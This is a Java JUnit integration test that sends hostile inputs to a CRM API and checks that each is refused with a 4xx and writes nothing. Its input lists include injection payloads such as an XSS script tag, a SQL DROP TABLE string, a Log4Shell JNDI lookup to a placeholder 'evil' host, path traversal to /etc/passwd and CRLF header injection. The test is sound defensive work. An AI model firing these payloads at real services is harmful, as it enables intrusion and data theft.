package dev.crm.local.suite;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.crm.local.LocalRunner;
import dev.crm.shared.json.Json;
import dev.crm.devkit.LocalDynamoDb;
import dev.crm.devkit.SamTemplate;
import dev.crm.devkit.SampleEvents;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;

/**
 * Hostile inputs against every route, generated from its sample: malformed JSON, deep nesting,
 * huge values, wrong types and nulls in every field, unknown and read-only fields, unicode edge
 * cases, injection strings, hostile ids, headers, cursors and query parameters. Each must be a 4xx
 * problem+json (never a 5xx), and a rejected request must leave every domain item as it was.
 */
class HostileInputIT {
    static LocalRunner runner;
    static DynamoDbClient db;
    static SampleWalk walk;
    static Map<String, String> replace;
    static String adminKey;
    static final ApiContract contract = new ApiContract();
    static final List<String> report = new ArrayList<>();
    /** Every violation is collected, so one run shows them all. */
    static final List<String> failures = new ArrayList<>();

    static void check(boolean ok, String message) {
        if (!ok) {
            failures.add(message);
        }
    }

    @BeforeAll
    static void start() throws Exception {
        runner = LocalRunner.start(0, true, null, Map.of("CRM_OPERATOR_KEY", "crm_op_hostilesuiteoperatorkey0123456789"));
        walk = new SampleWalk(runner.url(), runner.operatorKey()).withSecretsFrom(runner.dynamoDbClient());
        var r = walk.send(null, "POST", "/v1/tenants", "/v1/tenants", null,
                Map.of("Authorization", "Bearer " + runner.operatorKey(), "Content-Type", "application/json"),
                "{\"name\": \"Hostile\", \"slug\": \"hostile\"}");
        @SuppressWarnings("unchecked")
        Map<String, Object> body = (Map<String, Object>) Json.parse(r.response().body());
        adminKey = (String) body.get("apiKey");
        replace = SampleWalk.replacements((String) body.get("tenantId"), adminKey, "hostile");
        // create the resources the samples name, but delete and deprovision nothing
        walk.walk(replace, adminKey, p -> !p.getFileName().toString().matches("(delete|revoke|deprovision)-.*"));
        db = runnerClient();
    }

    static DynamoDbClient runnerClient() {
        return runner.dynamoDbClient();
    }

    @AfterAll
    static void stop() {
        runner.close();
        System.out.println("hostile input cases: " + report.size());
    }

    /** Sends one hostile variant and checks it: 4xx problem+json, nothing written. */
    static void expectRejected(String label, Path sample, String method, String template, String path, String query,
            Map<String, String> headers, String body) throws Exception {
        TableSnapshot.clearRateCounters(db, LocalDynamoDb.TABLE);
        Map<String, String> before = TableSnapshot.take(db, LocalDynamoDb.TABLE);
        var r = walk.send(sample, method, template, path, query, headers, body).response();
        String where = label + " " + method + " " + path + " -> " + r.statusCode() + " "
                + r.body().substring(0, Math.min(200, r.body().length()));
        check(r.statusCode() >= 400 && r.statusCode() < 500, "not a 4xx: " + where);
        // the limiter answering would hide whether the input itself is refused
        check(r.statusCode() != 429, "rate-limited, so nothing was checked: " + where);
        check(r.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json"), "not problem+json: " + where);
        check(!r.body().contains("Exception") && !r.body().contains("\tat "), "internals shown: " + where);
        if (r.statusCode() >= 400) {
            check(before.equals(TableSnapshot.take(db, LocalDynamoDb.TABLE)), "a rejected request wrote something: " + where);
        }
        report.add(label);
    }

    /** Sends a variant that may be accepted: never a 5xx. */
    static void expectNo5xx(String label, String method, String template, String path, String query, Map<String, String> headers,
            String body) throws Exception {
        TableSnapshot.clearRateCounters(db, LocalDynamoDb.TABLE);
        var r = walk.send(null, method, template, path, query, headers, body).response();
        check(r.statusCode() != 429, "rate-limited, so nothing was checked: " + label + " " + method + " " + path);
        check(r.statusCode() < 500, "5xx: " + label + " " + method + " " + path + " -> " + r.statusCode() + " " + r.body());
        report.add(label);
    }

    record Request(Path sample, String method, String template, String path, String query, Map<String, String> headers,
            String body, String media) {}

    /** Every API sample as a request of the tenant's (admin or operator) key. */
    static List<Request> requests() {
        List<Request> out = new ArrayList<>();
        for (Path p : SampleWalk.inRunOrder(SampleEvents.all())) {
            Map<String, Object> json = SampleEvents.read(p, replace);
            if (!SampleEvents.isApiEvent(json)) {
                continue;
            }
            Map<String, String> headers = new LinkedHashMap<>();
            String media = null;
            for (var h : SamTemplate.map(json.get("headers")).entrySet()) {
                if (h.getKey().equalsIgnoreCase("Content-Type")) {
                    media = String.valueOf(h.getValue());
                    headers.put("Content-Type", media);
                } else if (h.getKey().equalsIgnoreCase("If-Match")) {
                    headers.put("If-Match", String.valueOf(h.getValue()));
                }
            }
            headers.put("Authorization", "Bearer " + (SampleWalk.isOperator(json) ? runner.operatorKey() : adminKey));
            StringBuilder q = new StringBuilder();
            SamTemplate.map(json.get("queryStringParameters")).forEach((k, v) ->
                    q.append(q.length() == 0 ? "" : "&").append(k).append('=').append(java.net.URLEncoder.encode(String.valueOf(v),
                            java.nio.charset.StandardCharsets.UTF_8)));
            out.add(new Request(p, (String) json.get("httpMethod"), (String) json.get("resource"), (String) json.get("path"),
                    q.toString(), headers, (String) json.get("body"), media));
        }
        return out;
    }

    static final List<Object> WRONG_VALUES = java.util.Arrays.asList(12345, -1, 3.5, true, List.of(), Map.of(), "x".repeat(5000),
            List.of(List.of(List.of())), "\u0000", null);
    static final List<String> NASTY_STRINGS = List.of("<script>alert(1)</script>", "'; DROP TABLE contacts; --",
            "attribute_exists(PK) OR #a = :v", "${jndi:ldap://evil/x}", "\u202eevil\u202c", "\ud83d\ude00\u200d\ud83d\udd25",
            "a\u0301\u0301\u0301\u0301", "\\u0000", "../../../etc/passwd", "%00", "\r\nSet-Cookie: x=y", "\ud800");

    @org.junit.jupiter.api.AfterEach
    void noFailures() {
        List<String> found = new ArrayList<>(failures);
        failures.clear();
        assertEquals(List.of(), found);
    }

    @Test
    @SuppressWarnings("unchecked")
    void malformedDeepHugeAndMistypedBodiesAreRejectedAndWriteNothing() throws Exception {
        for (Request r : requests()) {
            if (r.body() == null || r.media() == null || !r.media().contains("json") || r.method().equals("GET")) {
                continue;
            }
            if (r.media().contains("ndjson")) {
                // an NDJSON import takes any lines (each is checked by its job, rejections by line number:
                // CaseMeasuresIT); a body without a line is refused at once
                for (String blank : List.of("", "\n\n", "  \r\n")) {
                    expectRejected(r.sample().getFileName() + " blank", r.sample(), r.method(), r.template(), r.path(), r.query(),
                            r.headers(), blank);
                }
                continue;
            }
            String label = r.sample().getFileName().toString();
            if (r.media().contains("x-ndjson")) {
                // An NDJSON import accepts any line and rejects the bad ones per line in its job (the 202
                // starts a job that writes while later checks compare the table): InteractionImportIT
                // checks malformed and mistyped lines; its ids, headers and parameters are checked below.
                continue;
            }
            String specTemplate = contract.template(r.method(), r.path());
            if (specTemplate == null || contract.requestBodyRequired(r.method(), specTemplate)) {
                expectRejected(label + " empty", r.sample(), r.method(), r.template(), r.path(), r.query(), r.headers(), "");
            }
            for (String bad : List.of("{", "[", "{\"a\":}", "{\"a\" 1}", "{'a': 1}", "NaN", "{\"a\":1,\"a\":2}",
                    r.body().substring(0, Math.max(1, r.body().length() / 2)), "\"just a string\"", "[1,2,3]", "123", "null",
                    "{\"a\":" + "[".repeat(40) + "]".repeat(40) + "}")) {
                expectRejected(label + " malformed", r.sample(), r.method(), r.template(), r.path(), r.query(), r.headers(), bad);
            }
            // over the body limit (imports take more; their limit is tested with them)
            if (!r.template().endsWith("/imports")) {
                expectRejected(label + " huge", r.sample(), r.method(), r.template(), r.path(), r.query(), r.headers(),
                        "{\"a\": \"" + "x".repeat(300_000) + "\"}");
            }
            Object parsed = Json.parse(r.body());
            if (!(parsed instanceof Map<?, ?> base)) {
                continue;
            }
            Map<String, Object> valid = (Map<String, Object>) base;
            // an unknown field, and read-only fields with other values
            for (var extra : Map.<String, Object>of("zzUnknown", 1, "tenantId", "t_aaaaaaaaaaaaaaaaaaaa", "id", "c_aaaaaaaaaaaaaaaaaaaa",
                    "version", 99, "createdAt", "2001-01-01T00:00:00Z").entrySet()) {
                Map<String, Object> v = new LinkedHashMap<>(valid);
                v.put(extra.getKey(), extra.getValue());
                expectRejected(label + " field " + extra.getKey(), r.sample(), r.method(), r.template(), r.path(), r.query(),
                        r.headers(), Json.write(v));
            }
            // every field with every wrong type: what the contract calls invalid must be rejected
            String template = contract.template(r.method(), r.path());
            for (String field : new TreeMap<>(valid).keySet()) {
                for (Object wrong : WRONG_VALUES) {
                    Map<String, Object> v = new LinkedHashMap<>(valid);
                    v.put(field, wrong);
                    String body = Json.write(v);
                    if (template != null && !contract.requestValid(r.method(), template, r.media().split(";")[0], body)) {
                        expectRejected(label + " " + field + "=" + String.valueOf(wrong).substring(0, Math.min(10, String.valueOf(wrong).length())),
                                r.sample(), r.method(), r.template(), r.path(), r.query(), r.headers(), body);
                    } else {
                        expectNo5xx(label + " " + field, r.method(), r.template(), r.path(), r.query(), r.headers(), body);
                    }
                }
                if (valid.get(field) instanceof String) {
                    for (String nasty : NASTY_STRINGS) {
                        Map<String, Object> v = new LinkedHashMap<>(valid);
                        v.put(field, nasty);
                        expectNo5xx(label + " " + field + " nasty", r.method(), r.template(), r.path(), r.query(), r.headers(),
                                Json.write(v));
                    }
                }
            }
        }
    }

    /**
     * The case routes on the case as it is now (the walk has moved the sample case past the sample's
     * If-Match, so the generic PATCH variants stop at 412 before the body is read): hostile merge
     * patches, read-only fields, a step the workflow forbids, and Idempotency-Keys misused on the case
     * POSTs. Each is a 4xx problem+json that writes nothing; a refused create uses no case number.
     */
    @Test
    @SuppressWarnings("unchecked")
    void caseWritesRefuseHostileBodiesOnTheCurrentVersionAndMisusedKeys() throws Exception {
        String id = replace.get("cs_example0000000000000");
        String path = "/v1/cases/" + id;
        Path patchSample = SampleEvents.directory().resolve("cases/patch-case.json");
        Map<String, String> auth = Map.of("Authorization", "Bearer " + adminKey);
        var current = walk.send(null, "GET", "/v1/cases/{id}", path, null, auth, null).response();
        assertEquals(200, current.statusCode(), current.body());
        assertEquals("open", ((Map<String, Object>) Json.parse(current.body())).get("status"), "the walk opened the sample case");
        Map<String, String> patch = new LinkedHashMap<>(auth);
        patch.put("Content-Type", "application/merge-patch+json");
        patch.put("If-Match", current.headers().firstValue("ETag").orElseThrow());
        for (String body : List.of("{\"status\": null}", "{\"status\": \"new\"}", "{\"status\": \"closed\"}",
                "{\"status\": \"Open\"}", "{\"status\": [\"open\"]}", "{\"priority\": null}", "{\"priority\": 3}",
                "{\"category\": null}", "{\"category\": \"not-a-category\"}", "{\"category\": {}}", "{\"subject\": null}",
                "{\"subject\": \"\"}", "{\"subject\": \"two\\nlines\"}", "{\"subject\": \"" + "x".repeat(201) + "\"}",
                "{\"description\": \"" + "x".repeat(10_001) + "\"}", "{\"description\": 5}", "{\"assignee\": \"\"}",
                "{\"assignee\": 7}", "{\"orderRef\": []}", "{\"orderRef\": \"\\u0000\"}", "{\"number\": \"CS-999999\"}",
                "{\"contactId\": \"c_aaaaaaaaaaaaaaaaaaaa\"}", "{\"channel\": \"fax\"}", "{\"version\": 99}",
                "{\"createdAt\": \"2001-01-01T00:00:00Z\"}", "{\"tenantId\": \"t_aaaaaaaaaaaaaaaaaaaa\"}", "{\"zzUnknown\": 1}",
                "{\"status\": \"solved\", \"zzUnknown\": 1}", "{\"status\": \"solved\", \"priority\": \"asap\"}", "[]", "null",
                "{\"status\": \"pending\", \"status\": \"solved\"}")) {
            expectRejected("case patch " + body.substring(0, Math.min(30, body.length())), patchSample, "PATCH", "/v1/cases/{id}",
                    path, null, patch, body);
        }
        // the next case's number is the one after the last, however many creates were refused above and below
        Path createSample = SampleEvents.directory().resolve("cases/create-case.json");
        Map<String, String> json = new LinkedHashMap<>(auth);
        json.put("Content-Type", "application/json");
        // a contact of its own: the walk anonymised the sample's, which can open no case now
        var contact = walk.send(null, "POST", "/v1/contacts", "/v1/contacts", null, json, "{\"firstName\": \"Casey\"}").response();
        assertEquals(201, contact.statusCode(), contact.body());
        Map<String, Object> createFields = new LinkedHashMap<>((Map<String, Object>) Json.parse(
                (String) SampleEvents.read(createSample, replace).get("body")));
        createFields.put("contactId", ((Map<String, Object>) Json.parse(contact.body())).get("id"));
        String create = Json.write(createFields);
        String key = "hostile-case-" + java.util.UUID.randomUUID();
        json.put("Idempotency-Key", key);
        var first = walk.send(createSample, "POST", "/v1/cases", "/v1/cases", null, json, create).response();
        assertEquals(201, first.statusCode(), first.body());
        Map<String, Object> firstCase = (Map<String, Object>) Json.parse(first.body());
        Map<String, Object> other = new LinkedHashMap<>((Map<String, Object>) Json.parse(create));
        other.put("subject", "Another subject under the same key");
        expectRejected("case create: the key again with another body", createSample, "POST", "/v1/cases", "/v1/cases", null, json,
                Json.write(other));
        for (String badKey : List.of("", "k".repeat(256))) {
            Map<String, String> h = new LinkedHashMap<>(json);
            h.put("Idempotency-Key", badKey);
            expectRejected("case create: Idempotency-Key '" + badKey.substring(0, Math.min(12, badKey.length())) + "'", createSample,
                    "POST", "/v1/cases", "/v1/cases", null, h, create);
        }
        Map<String, String> before = TableSnapshot.take(db, LocalDynamoDb.TABLE);
        var replay = walk.send(createSample, "POST", "/v1/cases", "/v1/cases", null, json, create).response();
        check(replay.statusCode() == 201 && replay.headers().firstValue("Idempotent-Replayed").orElse("").equals("true")
                && Json.parse(replay.body()).equals(firstCase), "case create replay: " + replay.statusCode() + " " + replay.body());
        check(before.equals(TableSnapshot.take(db, LocalDynamoDb.TABLE)), "case create replay wrote something");
        json.remove("Idempotency-Key");
        var next = walk.send(createSample, "POST", "/v1/cases", "/v1/cases", null, json, create).response();
        assertEquals(201, next.statusCode(), next.body());
        long firstNumber = Long.parseLong(((String) firstCase.get("number")).substring(3));
        check(((Map<String, Object>) Json.parse(next.body())).get("number").equals(
                dev.crm.cases.domain.SupportCase.displayNumber(firstNumber + 1)), "refused creates used case numbers: after "
                + firstCase.get("number") + " came " + next.body());
        // a message under a key, then the key again with another body
        Path messageSample = SampleEvents.directory().resolve("cases/send-case-message.json");
        String message = (String) SampleEvents.read(messageSample, replace).get("body");
        json.put("Idempotency-Key", "hostile-message-" + java.util.UUID.randomUUID());
        var sent = walk.send(messageSample, "POST", "/v1/cases/{id}/messages", path + "/messages", null, json, message).response();
        assertEquals(201, sent.statusCode(), sent.body());
        Map<String, Object> otherMessage = new LinkedHashMap<>((Map<String, Object>) Json.parse(message));
        otherMessage.put("visibility", "internal");
        expectRejected("case message: the key again with another body", messageSample, "POST", "/v1/cases/{id}/messages",
                path + "/messages", null, json, Json.write(otherMessage));
        report.add("case writes");
    }

    /**
     * The agent PATCH on the agent as it is now (the generic variants stop at 412, as for cases):
     * hostile merge patches and read-only fields, each a 4xx problem+json that writes nothing.
     */
    @Test
    void agentPatchesRefuseHostileBodiesOnTheCurrentVersion() throws Exception {
        String path = "/v1/agents/" + replace.get("ag_example0000000000000");
        Path sample = SampleEvents.directory().resolve("cases/patch-agent.json");
        Map<String, String> auth = Map.of("Authorization", "Bearer " + adminKey);
        var current = walk.send(null, "GET", "/v1/agents/{id}", path, null, auth, null).response();
        assertEquals(200, current.statusCode(), current.body());
        Map<String, String> patch = new LinkedHashMap<>(auth);
        patch.put("Content-Type", "application/merge-patch+json");
        patch.put("If-Match", current.headers().firstValue("ETag").orElseThrow());
        for (String body : List.of("{\"name\": null}", "{\"name\": \"\"}", "{\"name\": \"two\\nlines\"}",
                "{\"name\": \"" + "x".repeat(201) + "\"}", "{\"email\": null}", "{\"email\": \"not an address\"}",
                "{\"email\": \"a@b\"}", "{\"email\": \"" + "x".repeat(250) + "@example.com\"}", "{\"email\": 5}",
                "{\"teams\": \"billing\"}", "{\"teams\": [\"\"]}", "{\"teams\": [1]}", "{\"teams\": [\"a\\nb\"]}",
                "{\"teams\": [" + "\"t\",".repeat(20) + "\"t\"]}", "{\"active\": null}", "{\"active\": \"true\"}",
                "{\"active\": 0}", "{\"id\": \"ag_aaaaaaaaaaaaaaaaaaaa\"}", "{\"version\": 99}",
                "{\"createdAt\": \"2001-01-01T00:00:00Z\"}", "{\"tenantId\": \"t_aaaaaaaaaaaaaaaaaaaa\"}", "{\"zzUnknown\": 1}",
                "{\"active\": false, \"zzUnknown\": 1}", "[]", "null", "{\"name\": \"a\", \"name\": \"b\"}")) {
            expectRejected("agent patch " + body.substring(0, Math.min(30, body.length())), sample, "PATCH", "/v1/agents/{id}",
                    path, null, patch, body);
        }
        report.add("agent patches");
    }

    @Test
    void hostileIdsHeadersCursorsAndParametersAreRejected() throws Exception {
        for (Request r : requests()) {
            String label = r.sample().getFileName().toString();
            boolean json = r.media() != null && r.media().contains("json");
            // hostile ids in every path parameter position
            if (r.template().contains("{") && !r.method().equals("OPTIONS")) {
                for (String id : List.of("..", "..%2F..%2Fetc", "c_", "c_%00", "x".repeat(300), "%F0%9F%98%80", "c_AAAAAAAAAAAAAAAAAAAA",
                        "t_aaaaaaaaaaaaaaaaaaaa%23C%23c_aaaaaaaaaaaaaaaaaaaa", "%27%20OR%201%3D1")) {
                    String path = r.template().replaceAll("\\{[^}]+}", id);
                    var resp = walk.send(r.sample(), r.method(), r.template(), path, r.query(), r.headers(), r.body()).response();
                    check(resp.statusCode() >= 400 && resp.statusCode() < 500,
                            label + " id " + id + " -> " + resp.statusCode() + " " + resp.body());
                    report.add(label + " id");
                }
            }
            // hostile headers
            if (r.body() != null && !r.method().equals("GET")) {
                Map<String, String> h = new LinkedHashMap<>(r.headers());
                h.put("Idempotency-Key", "k".repeat(300));
                expectRejected(label + " long idempotency key", r.sample(), r.method(), r.template(), r.path(), r.query(), h, r.body());
                if (json) {
                    Map<String, String> wrongType = new LinkedHashMap<>(r.headers());
                    wrongType.put("Content-Type", "text/xml");
                    expectRejected(label + " media type", r.sample(), r.method(), r.template(), r.path(), r.query(), wrongType, r.body());
                    Map<String, String> charset = new LinkedHashMap<>(r.headers());
                    charset.put("Content-Type", "application/json; charset=ISO-8859-1");
                    expectRejected(label + " charset", r.sample(), r.method(), r.template(), r.path(), r.query(), charset, r.body());
                }
            }
            if (r.headers().containsKey("If-Match")) {
                for (String im : List.of("garbage", "\"-1\"", "\"99999\"", "W/\"abc\"", "*")) {
                    Map<String, String> h = new LinkedHashMap<>(r.headers());
                    h.put("If-Match", im);
                    expectRejected(label + " If-Match " + im, r.sample(), r.method(), r.template(), r.path(), r.query(), h, r.body());
                }
            }
            // list parameters
            if (r.method().equals("GET") && r.query() != null && r.query().contains("limit")) {
                for (String q : List.of("limit=0", "limit=201", "limit=abc", "limit=-5", "cursor=garbage", "cursor=a.b.c",
                        "cursor=" + "x".repeat(5000), "limit=10&limit=20")) {
                    expectRejected(label + " " + q.substring(0, Math.min(12, q.length())), r.sample(), r.method(), r.template(),
                            r.path(), q, r.headers(), r.body());
                }
            }
        }
    }
}
